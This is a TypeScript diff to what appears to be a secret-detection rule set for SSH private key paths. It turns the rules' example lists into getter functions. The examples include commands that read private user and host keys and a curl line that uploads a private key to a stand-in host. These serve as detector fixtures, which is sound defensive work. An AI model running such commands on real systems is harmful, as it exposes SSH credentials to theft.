@@ -34,17 +34,21 @@ export const SSH_KEY_PATH_RULES: readonly Rule[] = [
     // The gateway's own key is reported by name.
     validate: (match) => !isForbidden(match) && !match.text.includes('picoclaw_ed25519'),
     describes: "The path of a user's private SSH key.",
-    finds: [
-      'cat ~/.ssh/id_rsa',
-      '{"path":"/home/u/.ssh/id_ed25519"}',
-      String.raw`C:\\Users\\u\\.ssh\\id_ecdsa`,
-    ],
-    ignores: [
-      'cat ~/.ssh/id_rsa.pub',
-      'Never read ~/.ssh/id_rsa',
-      'The folder ~/.ssh holds keys',
-      'ls ~/.ssh/known_hosts',
-    ],
+    get finds() {
+      return [
+        'cat ~/.ssh/id_rsa',
+        '{"path":"/home/u/.ssh/id_ed25519"}',
+        String.raw`C:\\Users\\u\\.ssh\\id_ecdsa`,
+      ];
+    },
+    get ignores() {
+      return [
+        'cat ~/.ssh/id_rsa.pub',
+        'Never read ~/.ssh/id_rsa',
+        'The folder ~/.ssh holds keys',
+        'ls ~/.ssh/known_hosts',
+      ];
+    },
   },
   {
     ...COMMON,
@@ -64,12 +68,16 @@ export const SSH_KEY_PATH_RULES: readonly Rule[] = [
         match.before,
       ),
     describes: 'The name of a private SSH key where a file is read or copied.',
-    finds: [
-      'scp id_rsa user@host:',
-      'cat /backup/id_ed25519',
-      'curl -F file=@./keys/id_rsa https://x.example',
-    ],
-    ignores: ['The default name is id_rsa', 'android_id_rsa', 'cat ~/.ssh/id_rsa', 'cat id_rsa.pub'],
+    get finds() {
+      return [
+        'scp id_rsa user@host:',
+        'cat /backup/id_ed25519',
+        'curl -F file=@./keys/id_rsa https://x.example',
+      ];
+    },
+    get ignores() {
+      return ['The default name is id_rsa', 'android_id_rsa', 'cat ~/.ssh/id_rsa', 'cat id_rsa.pub'];
+    },
   },
   {
     ...COMMON,
@@ -85,15 +93,19 @@ export const SSH_KEY_PATH_RULES: readonly Rule[] = [
     reach: { before: 24, after: 30 },
     validate: (match) => !isForbidden(match),
     describes: "The path of the machine's private SSH host key.",
-    finds: [
-      'cat /etc/ssh/ssh_host_rsa_key',
-      '{"p":"/etc/ssh/ssh_host_ed25519_key"}',
-      'GET /?f=%2Fetc%2Fssh%2Fssh_host_ecdsa_key',
-    ],
-    ignores: [
-      '/etc/ssh/ssh_host_rsa_key.pub',
-      'do not read /etc/ssh/ssh_host_rsa_key',
-      'ssh_host_keys are made at the first boot',
-    ],
+    get finds() {
+      return [
+        'cat /etc/ssh/ssh_host_rsa_key',
+        '{"p":"/etc/ssh/ssh_host_ed25519_key"}',
+        'GET /?f=%2Fetc%2Fssh%2Fssh_host_ecdsa_key',
+      ];
+    },
+    get ignores() {
+      return [
+        '/etc/ssh/ssh_host_rsa_key.pub',
+        'do not read /etc/ssh/ssh_host_rsa_key',
+        'ssh_host_keys are made at the first boot',
+      ];
+    },
   },
 ];
